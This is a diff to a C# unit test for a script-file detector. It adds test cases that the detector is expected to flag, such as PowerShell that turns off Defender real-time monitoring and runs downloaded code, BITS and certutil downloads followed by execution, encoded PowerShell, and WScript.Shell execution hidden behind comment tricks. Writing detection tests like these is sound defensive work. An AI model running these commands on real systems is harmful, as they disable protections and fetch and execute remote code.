@@ -22,6 +22,16 @@ public sealed class ScriptFileTests
     [InlineData("#@~^XAAAAA==encoded", "a.vbe")]
     [InlineData("import base64,sys;exec(base64.b64decode(b'cHJpbnQoMSk='))", "a.py")]
     [InlineData("//some words that say nothing\n_0x1=['a'];\n_0x2=_0x1[0];\nnew ActiveXObject('WScript.Shell')['Run'](_0x2);", "a.js")]
+    [InlineData("Set-MpPreference -DisableRealtimeMonitoring $true -Force\nIEX (New-Object Net.WebClient).DownloadString('a')", "a.ps1")]
+    [InlineData("Start-BitsTransfer -Source http://a.example/x -Destination x.exe\nStart-Process x.exe", "b.ps1")]
+    [InlineData("CD /D %TEMP%\r\npowershell -enc SQBFAFgA", "a.bat")]
+    [InlineData("Echo Please wait now.\r\npowershell -enc SQBFAFgA", "a.bat")]
+    [InlineData("If True Then\r\nCreateObject(\"WScript.Shell\").Run \"calc\"\r\nEnd If", "a.vbs")]
+    [InlineData("' \\begin{x}\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"", "a.vbs")]
+    [InlineData("rem \\begin{a}\r\npowershell -enc SQBFAFgA", "a.cmd")]
+    [InlineData("/*\n```\n*/\nnew ActiveXObject('WScript.Shell').Run('calc');\n", "a.js")]
+    [InlineData("<#\n\\begin{a}\n#>\nIEX (New-Object Net.WebClient).DownloadString('http://a.example/')", "a.ps1")]
+    [InlineData("powershell -enc SQBFAFgA\n\n.. code\n```\n", "b.bat")]
     [InlineData("net user a b /add\r\nschtasks /create /tn a /tr b\r\ncertutil -urlcache -f http://a.example/x x.exe", "a.bat")]
     public void Complete_ScriptThatActs_IsSuspiciousByItselfAndInside(string script, string name)
     {
